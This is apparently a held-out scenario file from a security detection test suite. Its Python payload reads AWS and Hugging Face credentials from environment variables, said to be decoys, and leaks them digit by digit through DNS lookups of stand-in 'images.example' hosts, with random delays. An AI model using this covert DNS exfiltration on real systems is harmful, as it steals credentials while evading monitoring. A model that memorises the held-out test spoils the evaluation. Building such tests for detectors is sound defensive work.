"""
id: V52
name: spelled-in-names
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [dns, network, sequence]
techniques: [T1048.003, T1071.004, T1132.002, T1552.007, AML.T0025]
servers: [fastapi]
seconds: 130
what: >
  Spells the server's keys, which are decoys, in questions to DNS for the names of the twelve hosts of pictures: each question is
  for one of them, and which one is a digit. A hundred known names within a minute or two, by the usual way, to be read where the
  resolver's log is; but nothing is fetched from any of them.
missed: >
  All names are known and answered, and each is asked as one of known names is. How often names are asked in a row is not
  counted, as resolvers differ too much in how they ask.
"""

import os
import socket

KEYS = ["AWS_SECRET_ACCESS_KEY", "HF_TOKEN"]
# Clients name these hosts.
HOSTS = 12


def payload(world):
    keys = "".join(os.environ.get(name, "DECOY") for name in KEYS)
    number = int.from_bytes(keys.encode(), "big")
    while number:
        number, digit = divmod(number, HOSTS)
        socket.getaddrinfo(f"media{digit}.images.example", 80, type=socket.SOCK_STREAM)
        world.sleep(world.random.uniform(0.4, 1.1))
